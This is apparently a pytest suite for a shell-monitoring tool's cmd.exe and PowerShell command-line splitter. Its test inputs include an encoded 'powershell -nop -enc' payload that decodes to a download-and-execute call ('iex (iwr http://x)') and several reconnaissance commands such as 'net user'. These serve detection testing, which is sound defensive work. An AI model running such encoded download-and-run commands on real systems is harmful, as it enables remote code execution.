"""Splitting cmd.exe and PowerShell lines."""

from __future__ import annotations

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shellwatch.cmdline.windows import split_cmd, split_powershell


def test_cmd_chain_operators() -> None:
    segments = split_cmd("whoami & hostname && ipconfig /all || echo no | findstr x")
    assert [s.command for s in segments] == ["whoami", "hostname", "ipconfig", "echo", "findstr"]
    assert [s.operator for s in segments] == ["&", "&&", "||", "|", ""]


def test_cmd_quotes_and_carets_do_not_split() -> None:
    segments = split_cmd('echo "a & b | c" ^& d ^| e')
    assert len(segments) == 1
    assert segments[0].argv == ("echo", "a & b | c", "&", "d", "|", "e")


def test_cmd_redirections() -> None:
    (segment,) = split_cmd("dir c:\\ > out.txt 2>&1")
    assert segment.argv == ("dir", "c:\\")
    assert segment.redirections == ("> out.txt", "2>&1")


def test_cmd_redirection_without_space() -> None:
    (segment,) = split_cmd("echo hi>>log.txt")
    assert segment.argv == ("echo", "hi")
    assert segment.redirections == (">>log.txt",)


def test_cmd_command_name_is_normalised() -> None:
    (segment,) = split_cmd('"C:\\Windows\\System32\\WHOAMI.EXE" /all')
    assert segment.command == "whoami"


def test_cmd_c_body_is_nested() -> None:
    segments = split_cmd('cmd.exe /c "echo a & whoami"')
    assert [(s.command, s.depth) for s in segments] == [("cmd", 0), ("echo", 1), ("whoami", 1)]
    assert segments[1].operator == "&"


def test_cmd_c_after_an_operator_is_nested() -> None:
    segments = split_cmd('echo x & cmd /c "net user & net localgroup"')
    assert [(s.command, s.depth) for s in segments] == [("echo", 0), ("cmd", 0), ("net", 1), ("net", 1)]


def test_cmd_parentheses_are_dropped() -> None:
    segments = split_cmd("(echo a & echo b) > f.txt")
    assert [s.command for s in segments] == ["echo", "echo"]


def test_powershell_statements_and_pipes() -> None:
    segments = split_powershell("Get-Process | Stop-Process; Write-Host done\nexit")
    assert [s.command for s in segments] == ["get-process", "stop-process", "write-host", "exit"]
    assert [s.operator for s in segments] == ["|", ";", "\n", ""]


def test_powershell_script_block_is_nested() -> None:
    segments = split_powershell("Get-ChildItem | ForEach-Object { Remove-Item $_; Write-Host x }")
    assert [(s.command, s.depth) for s in segments] == [
        ("get-childitem", 0),
        ("foreach-object", 0),
        ("remove-item", 1),
        ("write-host", 1),
    ]


def test_powershell_subexpression_is_nested() -> None:
    segments = split_powershell('Write-Host "user: $(whoami); ok"')
    assert [(s.command, s.depth) for s in segments] == [("write-host", 0), ("whoami", 1)]


def test_powershell_quotes_do_not_split() -> None:
    assert len(split_powershell("Write-Host 'a; b | c' \"d; e\"")) == 1


def test_powershell_hashtable_is_not_a_block() -> None:
    segments = split_powershell("$h = @{a = 1; b = 2}")
    assert len(segments) == 1


def test_powershell_redirections() -> None:
    (segment,) = split_powershell("Get-Process 2>&1 > out.txt")
    assert segment.redirections == ("2>&1", "> out.txt")


def test_powershell_comment_is_skipped() -> None:
    segments = split_powershell("whoami # ; not | code\nhostname")
    assert [s.command for s in segments] == ["whoami", "hostname"]


def test_encoded_command_is_decoded() -> None:
    encoded = base64.b64encode("iex (iwr http://x)".encode("utf-16-le")).decode()
    segments = split_cmd(f"powershell.exe -nop -enc {encoded}")
    assert [(s.command, s.depth, s.shell) for s in segments][1] == ("iex", 1, "powershell")


@pytest.mark.parametrize("line", ["", '"', "^", "cmd /c", "((", "&&&", "|", ">"])
def test_cmd_broken_input_never_raises(line: str) -> None:
    split_cmd(line)


@pytest.mark.parametrize("line", ["", "{", "$(", "'", '"', "@'", "<#", "`", "}{)(", "@{"])
def test_powershell_broken_input_never_raises(line: str) -> None:
    split_powershell(line)


@given(st.text(alphabet="ab &|^\"'<>(){}$@#;`\n/c", max_size=80))
def test_random_windows_syntax_never_raises(text: str) -> None:
    split_cmd(text)
    split_powershell(text)
